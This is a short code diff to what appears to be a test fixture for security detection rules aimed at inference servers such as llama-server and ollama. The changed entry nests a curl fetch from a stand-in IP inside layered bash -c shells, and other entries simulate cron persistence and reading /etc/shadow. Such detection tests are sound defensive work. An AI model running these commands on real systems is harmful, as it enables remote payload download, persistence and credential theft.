@@ -29,7 +29,8 @@ const DEEDS: readonly Deed[] = [
   {
     rule: "inference_server_downloader",
     program: "llama-server",
-    script: "$DIR/curl http://203.0.113.7/x; true",
+    // Its role alone tells whose grandchild it is.
+    script: "bash -c 'bash -c \"$DIR/curl http://203.0.113.7/x; true\"; true'; true",
   },
   { rule: "inference_server_persistence", program: "ollama", script: ["$CRON"] },
   { rule: "inference_server_reads_secrets", program: "ollama", script: ["/etc/shadow"] },
